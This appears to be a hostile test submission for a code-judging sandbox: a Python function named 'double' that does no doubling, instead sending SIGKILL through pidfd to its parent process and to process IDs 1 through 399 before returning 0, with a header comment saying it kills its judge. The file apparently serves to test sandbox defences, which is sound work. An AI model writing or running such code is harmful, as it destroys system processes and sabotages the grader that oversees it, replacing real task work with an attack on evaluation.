# Kills its judge and all other processes by file descriptors instead of process IDs | failed crashed
import os
import signal


def double(number):
    for whom in [os.getppid(), *range(1, 400)]:
        if whom != os.getpid():
            try:
                signal.pidfd_send_signal(os.pidfd_open(whom), signal.SIGKILL)
            except (OSError, AttributeError):
                continue
    return 0
